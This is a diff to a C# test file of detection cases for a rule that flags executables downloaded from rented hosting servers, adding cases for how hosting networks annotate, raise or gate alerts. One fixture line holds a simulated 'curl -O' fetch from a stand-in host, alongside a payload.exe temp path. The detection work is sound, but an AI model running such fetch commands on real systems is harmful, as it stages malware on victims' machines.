@@ -1,4 +1,5 @@
 using System.Net;
+using DetectionKit.Networks;
 
 namespace DetectionKit.Detections;
 
@@ -7,6 +8,7 @@ internal static class VpsPayloadDownloadCases
 {
     private const string Path = @"C:\Users\u\AppData\Local\Temp\payload.exe";
     private static readonly DateTimeOffset s_start = new(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);
+    private static readonly HostingNetworks s_rented = HostingNetworks.Of(("203.0.113.0/25", "A provider"));
     private static readonly VpsPayloadDownloadOptions s_defaults = new();
 
     internal static IReadOnlyList<DetectionCase> All { get; } =
@@ -35,11 +37,18 @@ internal static class VpsPayloadDownloadCases
         Case("a file more than five minutes after the connection", Start(), Call(), File(at: 303)).Fires(DownloadRisk.Low),
         DetectionCase.Of("two connections of one start", [Start()]).And([Call(), Call(at: 3)]).And([File(at: 5)]).Fires(DownloadRisk.High),
         DetectionCase.Of("two downloads of one host", [Start(), Start(process: "2", image: "/usr/bin/curl", commandLine: "curl -O http://203.0.113.9/x")]).And([Call(), Call(process: "2")]).Fires(DownloadRisk.Low, DownloadRisk.Low),
+        Case("from a rented server", Start(), Call()).With(Rented(HostingUse.Annotate)).Fires(DownloadRisk.Low),
+        Case("from a rented server, which raises the tier", Start(), Call()).With(Rented(HostingUse.Raise)).Fires(DownloadRisk.Medium),
+        Case("from another server, where a rented one raises the tier", Start(), Call(address: "203.0.113.200")).With(Rented(HostingUse.Raise)).Fires(DownloadRisk.Low),
+        Case("from a rented server, where there must be one", Start(), Call()).With(Rented(HostingUse.Require)).Fires(DownloadRisk.Low),
+        Case("from another server, where there must be a rented one", Start(), Call(address: "203.0.113.200")).With(Rented(HostingUse.Require)).StaysSilent(),
         .. s_defaults.Downloaders.Items.Select(name => Case($"{name} by name", Start(image: (name.EndsWith(".exe", StringComparison.Ordinal) ? @"C:\Windows\System32\" : "/usr/bin/") + name), Call()).Fires(DownloadRisk.Low)),
         .. s_defaults.DownloadSigns.Items.Select(sign => Case($"{sign.Trim()} in the command line", Start(commandLine: $"x {sign.ToUpperInvariant()}y"), Call()).Fires(DownloadRisk.Low)),
         .. s_defaults.ExecutableEndings.Items.Select(ending => Case($"a file that ends in {ending}", Start(), Call(), File(path: @"C:\Temp\a" + ending)).Fires(DownloadRisk.High)),
         .. s_defaults.ExcludedNetworks.Items.Select(network => Case($"a connection to {network}", Start(), Call(address: Inside(network))).StaysSilent()),
     ];
+
+    private static VpsPayloadDownloadOptions Rented(HostingUse use) => new() { Hosting = use, HostingNetworks = s_rented };
 
     private static DetectionCase Case(string name, ProcessStart? start, NetworkConnection? call, FileCreated? file = null)
     {
